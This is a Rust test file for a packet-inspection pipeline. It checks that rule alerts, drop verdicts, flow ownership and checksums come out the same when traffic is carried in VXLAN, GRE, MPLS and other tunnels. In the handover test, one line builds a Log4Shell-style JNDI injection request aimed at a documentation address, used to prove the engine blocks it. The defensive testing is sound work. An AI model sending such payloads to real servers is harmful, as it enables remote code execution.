//! What is found in a flow does not depend on what its packets travel in: conversations with secrets, and captures of
//! others, give the rules the same bytes, and the same alerts and verdicts, wrapped as plain.

use std::fs;
use std::hash::{DefaultHasher, Hash, Hasher};
use std::net::IpAddr;
use std::sync::{Arc, OnceLock};

use dataplane::app::Lane;
use dataplane::decode::{Checksum, ChecksumMode, LinkType, TcpFlags, Transport, checksum, decode};
use dataplane::event::{Event, EventSink, Reading};
use dataplane::flow::{Direction, FlowRecord};
use dataplane::pipeline::{Owners, Pipeline, RxMeta};
use dataplane::policy::{Mode, Settings};
use dataplane::verdict::{DropReason, Verdict};
use dlp_patterns::{Field, RuleSet, default_packs};
use engine::sample::{self, Connection, Ends};
use tests::capture;
use tests::corpora::{captures, folder};
use tests::wrapping::Wrapping;

fn rules() -> Arc<RuleSet> {
    static RULES: OnceLock<Arc<RuleSet>> = OnceLock::new();
    let compiled = || Arc::new(RuleSet::compile(&default_packs()).expect("the default packs compile"));
    Arc::clone(RULES.get_or_init(compiled))
}

/// Rule, field, way, and where in the field the match begins and ends.
type Found = (u32, Field, Direction, u64, u64);

/// Protocol, client, server and TCP flags of a flow, with its frames and the reason why it was blocked.
type Ended = (u8, (IpAddr, u16), (IpAddr, u16), [u8; 2], [u64; 2], Option<DropReason>);

#[derive(Default)]
struct Told {
    alerts: Vec<Found>,
    /// All that the rules read, in order, and how many bytes that were.
    read: DefaultHasher,
    read_bytes: usize,
    ended: Vec<Ended>,
    records: Vec<FlowRecord>,
}

impl EventSink for Told {
    fn emit(&mut self, event: Event<'_>) {
        match event {
            Event::Alert(alert) => {
                let (start, end) = (alert.hit.start, alert.hit.end);
                self.alerts.push((alert.rule.id(), alert.field, alert.direction, start, end));
            }
            Event::Flow(end) => {
                let flow = end.flow;
                let reason = end.blocked.map(|(reason, _)| reason);
                let ended = (flow.protocol, flow.client, flow.server, flow.tcp_flags, flow.frames, reason);
                self.ended.push(ended);
                self.records.push(flow.clone());
            }
            _ => {}
        }
    }

    fn reads(&mut self, flow: &FlowRecord, lane: Lane, reading: Reading<'_>) {
        (flow.id, lane).hash(&mut self.read);
        match reading {
            Reading::Begin(field) => field.as_str().hash(&mut self.read),
            Reading::Data(bytes) => {
                bytes.hash(&mut self.read);
                self.read_bytes += bytes.len();
            }
            Reading::End => 0u8.hash(&mut self.read),
        }
    }
}

/// A pipeline, and the time that it was told.
struct Bench {
    pipeline: Pipeline,
    told: Told,
    now_ns: u64,
}

impl Bench {
    fn new(mode: Mode) -> Bench {
        let settings = Settings { mode, flows_max: 1 << 14, ..Settings::default() };
        Bench { pipeline: Pipeline::new(settings, rules()), told: Told::default(), now_ns: 0 }
    }

    fn judge(&mut self, frame: &mut [u8]) -> Verdict {
        self.now_ns += 1000;
        let (now_ns, wire_bytes) = (self.now_ns, frame.len() as u32);
        let meta = RxMeta { now_ns, link: 0, link_type: LinkType::Ethernet, side: None, wire_bytes };
        self.pipeline.process(frame, meta, &mut self.told)
    }

    fn finish(&mut self) {
        self.pipeline.finish(self.now_ns, &mut self.told);
        self.told.ended.sort();
    }
}

/// What frames come to: why each does not pass, the alerts, and the flows.
fn outcome(mode: Mode, frames: &[Vec<u8>]) -> (Vec<Option<DropReason>>, Told) {
    let mut bench = Bench::new(mode);
    let verdicts = frames.iter().map(|frame| bench.judge(&mut frame.clone()).reason()).collect();
    bench.finish();
    (verdicts, bench.told)
}

/// Checks that frames come to the same in each wrapping; how many alerts that were, and how many bytes were read.
fn assert_same_wrapped(name: &str, frames: &[Vec<u8>]) -> (usize, usize) {
    let (mut alerts, mut read_bytes) = (0, 0);
    for mode in [Mode::Monitor, Mode::Protect] {
        let (verdicts, told) = outcome(mode, frames);
        alerts += told.alerts.len();
        read_bytes += told.read_bytes;
        for wrapping in Wrapping::ALL {
            let wrap = |frame: &Vec<u8>| wrapping.wrap(frame).unwrap_or_else(|| frame.clone());
            let wrapped: Vec<Vec<u8>> = frames.iter().map(wrap).collect();
            let (wrapped_verdicts, wrapped_told) = outcome(mode, &wrapped);
            let place = verdicts.iter().zip(&wrapped_verdicts).position(|(plain, wrapped)| plain != wrapped);
            let verdict_there = place.map(|place| (place, verdicts[place], wrapped_verdicts[place]));
            assert_eq!(verdict_there, None, "{name} in {wrapping:?}, {mode:?}: frame, plain, wrapped");
            assert_eq!(wrapped_told.alerts, told.alerts, "{name} in {wrapping:?}, {mode:?}");
            let read = (wrapped_told.read_bytes, wrapped_told.read.finish());
            assert_eq!(read, (told.read_bytes, told.read.finish()), "{name} in {wrapping:?}, {mode:?}");
            assert_eq!(wrapped_told.ended, told.ended, "{name} in {wrapping:?}, {mode:?}");
        }
    }
    (alerts, read_bytes)
}

#[test]
fn conversations_are_read_alike_in_every_wrapping() {
    let frames = sample::frames();
    let wrapped = frames.iter().filter(|frame| Wrapping::Vxlan.wrap(frame).is_some()).count();
    assert!(wrapped > frames.len() / 2, "only {wrapped} of {} frames are wrapped", frames.len());
    let (alerts, read_bytes) = assert_same_wrapped("sample", &frames);
    assert!(alerts > 1 && read_bytes > 1000, "{alerts} alerts in {read_bytes} bytes");
}

/// One in so many captures is wrapped, of those that are short.
const CAPTURES_EVERY: usize = 3;
const CAPTURE_BYTES_MAX: u64 = 200_000;

#[test]
fn captures_of_others_are_read_alike_in_every_wrapping() {
    let Some(corpora) = folder("captures_of_others_are_read_alike_in_every_wrapping") else { return };
    let is_short = |path: &std::path::PathBuf| {
        fs::metadata(path).is_ok_and(|metadata| metadata.len() <= CAPTURE_BYTES_MAX)
    };
    let (mut wrapped, mut read_bytes) = (0, 0);
    for path in captures(&corpora).into_iter().filter(is_short).step_by(CAPTURES_EVERY) {
        let frames = capture::read(&fs::read(&path).expect("captures are readable")).frames;
        let is_whole =
            |frame: &capture::Frame| frame.link_type == 1 && frame.bytes.len() == frame.wire_bytes as usize;
        // In a frame that is cut, outer lengths would announce what is not there.
        if frames.is_empty() || !frames.iter().all(is_whole) {
            continue;
        }
        let frames: Vec<Vec<u8>> = frames.into_iter().map(|frame| frame.bytes).collect();
        read_bytes += assert_same_wrapped(&path.display().to_string(), &frames).1;
        wrapped += 1;
    }
    eprintln!("{wrapped} captures, {read_bytes} bytes read, the same in {} wrappings", Wrapping::ALL.len());
    assert!(wrapped >= 50, "only {wrapped} captures were wrapped");
    assert!(read_bytes > 1_000_000, "only {read_bytes} bytes were read");
}

fn connection() -> Connection {
    let address = |text: &str| text.parse().expect("it is an address");
    Connection::new(Ends::new(address("10.0.0.1:40000"), address("10.0.0.2:80"), &[]), [1000, 2000])
}

#[test]
fn both_directions_of_a_flow_in_a_tunnel_have_one_owner() {
    let owners = Owners::new([1, 2], 64, 0);
    let owner = |frame: &[u8]| {
        let decoded = decode(frame, frame.len() as u32, LinkType::Ethernet, ChecksumMode::Ignore);
        owners.of_packet(decoded.as_ref().expect("well-formed")).expect("it is of a flow")
    };
    let frames = connection().handshake();
    let plain = owner(&frames[0]);
    let mut moved = 0;
    for wrapping in Wrapping::ALL {
        let wrapped: Vec<Vec<u8>> =
            frames.iter().map(|frame| wrapping.wrap(frame).expect("it is IP")).collect();
        let (_, told) = outcome(Mode::Monitor, &wrapped);
        assert_eq!(told.records.len(), 1, "{wrapping:?}");
        let expected = owners.of_flow(&told.records[0]);
        assert!(wrapped.iter().all(|frame| owner(frame) == expected), "{wrapping:?}");
        moved += usize::from(expected != plain);
    }
    assert!(moved > Wrapping::ALL.len() / 2, "tunnels spread over the workers");
}

#[test]
fn the_same_ends_in_two_networks_are_two_flows() {
    let syn = connection().handshake().swap_remove(0);
    let other = |wrapping: Wrapping, at: usize| {
        let mut wrapped = wrapping.wrap(&syn).expect("it is IP");
        let mut elsewhere = wrapped.clone();
        elsewhere[at] ^= 1;
        let mut bench = Bench::new(Mode::Monitor);
        assert_eq!(bench.judge(&mut wrapped), Verdict::Forward);
        assert_eq!(bench.judge(&mut elsewhere), Verdict::Forward);
        bench.pipeline.flows_active()
    };
    // VNI, key, session; a label, which changes on the way.
    assert_eq!(other(Wrapping::Vxlan, 14 + 20 + 8 + 6), 2);
    assert_eq!(other(Wrapping::Gre, 14 + 20 + 7), 2);
    assert_eq!(other(Wrapping::Pppoe, 14 + 3), 2);
    assert_eq!(other(Wrapping::Mpls, 14 + 1), 1);
    assert_eq!(other(Wrapping::Gtpu, 14 + 20 + 8 + 7), 1);
}

/// In tunnels with a checksum of their own, all of them hold after what Weir changes.
#[test]
fn what_is_changed_inside_keeps_the_checksums_outside() {
    for wrapping in Wrapping::ALL {
        let mut connection = connection();
        let mut bench = Bench::new(Mode::Protect);
        for frame in connection.handshake() {
            assert_eq!(bench.judge(&mut wrapping.wrap(&frame).expect("it is IP")), Verdict::Forward);
        }
        let urgent = connection.segment(Direction::ToServer, TcpFlags::ACK | TcpFlags::URG, b"urgent");
        let mut partial = connection.segment(Direction::ToServer, TcpFlags::ACK, b"partial");
        let pseudo = checksum::pseudo_header([10, 0, 0, 1].into(), [10, 0, 0, 2].into(), 6, 20 + 7);
        partial[14 + 20 + 16..][..2].copy_from_slice(&checksum::fold(pseudo).to_be_bytes());
        for frame in [urgent, partial] {
            let mut wrapped = wrapping.wrap(&frame).expect("it is IP");
            assert_eq!(bench.judge(&mut wrapped), Verdict::Forward, "{wrapping:?}");
            let decoded = decode(&wrapped, wrapped.len() as u32, LinkType::Ethernet, ChecksumMode::Verify)
                .expect("it is right");
            assert_eq!(decoded.checksum, Checksum::Valid, "{wrapping:?}");
            assert!(matches!(decoded.transport, Transport::Tcp(header) if !header.flags.has(TcpFlags::URG)));
        }
        let counters = bench.pipeline.counters();
        assert_eq!((counters.urgent_cleared, counters.checksums_completed), (1, 1), "{wrapping:?}");
        assert_eq!(counters.decapsulated, if wrapping == Wrapping::QinQ { 0 } else { 5 }, "{wrapping:?}");
    }
}

/// Of a flow in a tunnel, nobody else may drop or pass frames: its outermost headers are those of others too.
#[test]
fn flows_in_tunnels_are_never_handed_over() {
    let handed_over = |wrap: &dyn Fn(&[u8]) -> Vec<u8>| {
        let settings = Settings { hands_over: true, flows_max: 16, ..Settings::default() };
        let mut bench = Bench { pipeline: Pipeline::new(settings, rules()), ..Bench::new(Mode::Protect) };
        let mut connection = connection();
        for frame in connection.handshake() {
            assert_eq!(bench.judge(&mut wrap(&frame)), Verdict::Forward);
        }
        let attack = b"GET /?q=${jndi:ldap://203.0.113.7/a} HTTP/1.1\r\nHost: a\r\n\r\n";
        let frame = connection.segment(Direction::ToServer, TcpFlags::ACK | TcpFlags::PSH, attack);
        let verdict = bench.judge(&mut wrap(&frame));
        assert_eq!(verdict.reason(), Some(DropReason::Rule));
        let mut offered = 0;
        bench.pipeline.hand_over(|_, _| {
            offered += 1;
            true
        });
        (verdict, offered)
    };
    let plain = handed_over(&|frame| frame.to_vec());
    assert_eq!(plain, (Verdict::Reset(DropReason::Rule), 1));
    for wrapping in Wrapping::ALL.into_iter().filter(|wrapping| *wrapping != Wrapping::QinQ) {
        let wrapped = handed_over(&|frame| wrapping.wrap(frame).expect("it is IP"));
        // The labels of one direction may be none in the other, and then the flow is one that the program can tell.
        let offered = usize::from(matches!(wrapping, Wrapping::Mpls | Wrapping::Pseudowire));
        assert_eq!(wrapped.0, Verdict::Drop(DropReason::Rule), "{wrapping:?}");
        assert!(wrapped.1 <= offered, "{wrapping:?}");
    }
}
